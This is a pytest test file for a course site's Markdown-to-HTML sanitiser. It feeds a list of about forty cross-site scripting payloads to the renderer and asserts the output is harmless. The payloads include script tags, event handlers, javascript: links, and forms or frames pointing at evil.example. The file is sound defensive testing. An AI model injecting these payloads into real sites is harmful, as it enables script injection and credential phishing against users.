"""Authored Markdown cannot put anything active or misleading into a page."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from courses.content import ContentErrors, render
from courses.content.rendering import sanitise as sanitising
from courses.content.rendering.sanitise import sanitise
from tests.content.rendering.helpers import FACTS, html

RENDERING = Path(sanitising.__file__).parent

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a block": "<div>\n<script>\nalert(1)\n</script>\n</div>",
    "script in mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "script in SVG": "<svg><script>alert(1)</script></svg>",
    "unfinished script": "<script>alert(1)",
    "script in a title": "<svg><title><script>alert(1)</script></title></svg>",
    "handler": '<b onclick="alert(1)">x</b>',
    "handler on SVG": '<svg onload="alert(1)"><circle cx="1" onclick="alert(1)"/></svg>',
    "handler without quotes": "<details open ontoggle=alert(1)>x</details>",
    "image": "<img src=x onerror=alert(1)>",
    "frame": '<iframe src="https://evil.example"></iframe>',
    "object": '<object data="https://evil.example"></object><embed src="x">',
    "form": '<form action="https://evil.example"><input name="password"></form>',
    "style element": "<style>* { background: url(https://evil.example) }</style>",
    "style attribute": '<p style="position:fixed;inset:0">x</p>',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "link element": '<link rel="stylesheet" href="https://evil.example">',
    "javascript address": '<a href="javascript:alert(1)">x</a>',
    "javascript address in disguise": '<a href=" java&#10;script:alert(1)">x</a>',
    "data address": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "address without a scheme": '<a href="//evil.example">x</a>',
    "svg link": '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    "use": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "foreign object": "<svg><foreignObject><iframe></iframe></foreignObject></svg>",
    "animate": '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    "fill from elsewhere": '<svg><rect fill="url(https://evil.example/x)"/></svg>',
    "htmx": '<button hx-get="/x" hx-trigger="load" data-hx-get="/y">x</button>',
    "submit button": '<button type="submit" formaction="https://evil.example">x</button>',
    "math": "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment": "<!-- <script>alert(1)</script> -->x",
    "in a callout": "::: note\n<script>alert(1)</script>\n:::",
    "in a callout's title": "::: note <img src=x onerror=alert(1)>\nx\n:::",
    "in a file name": '```python title="<img/src=x/onerror=alert(1)>"\nx\n```',
    "in code": "```\n</code></pre><script>alert(1)</script>\n```",
    "in a table": "| a |\n|---|\n| <script>alert(1)</script> |",
    "in a heading": "### <script>alert(1)</script> x",
    "in a lane": (
        "::: lanes\nunit: ms\nend: 10\nrows:\n  - name: <script>alert(1)</script>\n"
        "    bars: [{kind: run, start: 0, end: 5, label: '\"><script>alert(1)</script>'}]\n"
        "    marks: [{at: 1, label: '<script>alert(1)</script>'}]\n"
        "caption: <script>alert(1)</script> x\ndescription: '\"><script>alert(1)</script>'\n:::"
    ),
    "placeholder of Markdown": "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03",
}

ACTIVE = re.compile(
    r"<\s*(script|style|iframe|object|embed|form|input|img|base|meta|link|use|animate|math|template|"
    r"foreignobject|noscript)",
    re.IGNORECASE,
)


class _Attributes(HTMLParser):
    """Collects (tag, attribute, value) of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [(tag, name, value or "") for name, value in attrs]


def _harmless(page: str) -> None:
    assert not ACTIVE.search(page), page
    parser = _Attributes()
    parser.feed(page)
    for tag, name, value in parser.found:
        assert not name.startswith(("on", "hx-", "data-hx", "style", "form", "src")), (tag, name)
        if name == "href":
            assert re.match(r"https://|/[^/]|/$|#", value), value
        if name == "fill":
            assert value == "var(--surface)" or re.fullmatch(r"url\(#[\w-]+\)", value)


@pytest.mark.parametrize("markdown", HOSTILE.values(), ids=HOSTILE)
def test_hostile_markdown_becomes_harmless(markdown: str) -> None:
    _harmless(html(markdown))


def test_content_of_scripts_and_styles_is_gone() -> None:
    assert html("a <script>alert(1)</script><style>b{}</style> z") == "<p>a  z</p>"


def test_every_link_says_noopener() -> None:
    page = html("[a](https://a.example) [b](topic:b) <a href='https://c.example'>c</a>")
    assert page.count("<a ") == page.count('rel="noopener"') == 3


def test_target_and_foreign_rel_are_removed() -> None:
    page = html('<a href="https://a.example" target="_blank" rel="opener">a</a>')
    assert page == '<p><a href="https://a.example" rel="noopener">a</a></p>'


def test_authored_html_cannot_dress_as_the_page() -> None:
    page = html('<div class="top btn myth" id="main" role="dialog" tabindex="5">x</div>')
    assert page.strip() == '<div class="myth">x</div>'


def test_harmless_html_stays() -> None:
    kept = '<p>Press <kbd>Ctrl</kbd>, H<sub>2</sub>O, x<sup>2</sup>, <abbr title="a">b</abbr></p>'
    assert html(kept) == kept


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                *HOSTILE.values(),
                "<svg>",
                "</p>",
                '"',
                "'",
                "<",
                ">",
                "`",
                "\n",
                "\n\n",
                "<!--",
                "]]>",
            ]
        ),
        max_size=6,
    ).map("".join)
)
def test_mixtures_are_harmless(markdown: str) -> None:
    try:
        page = render(markdown, facts=FACTS).html
    except ContentErrors:
        return
    _harmless(page)


@given(st.sampled_from(list(HOSTILE.values())))
def test_sanitising_again_changes_nothing(markdown: str) -> None:
    page = html(markdown)
    assert sanitise(page) == page


def test_allowed_classes_are_all_written_by_our_renderers() -> None:
    """A class on the allow-list that nothing writes would only help an impostor."""
    source = "".join(
        path.read_text() for path in RENDERING.glob("*.py") if path.name != "sanitise.py"
    )
    lists = (RENDERING / "sanitise.py").read_text()
    classes = lists[lists.index("_CLASSES:") : lists.index("_VALUES:")]
    for name in re.findall(r'"([a-z-]+)"', classes):
        assert re.search(rf"[\"' ]{name}[\"' ]", source) or f'"{name}":' in classes, name
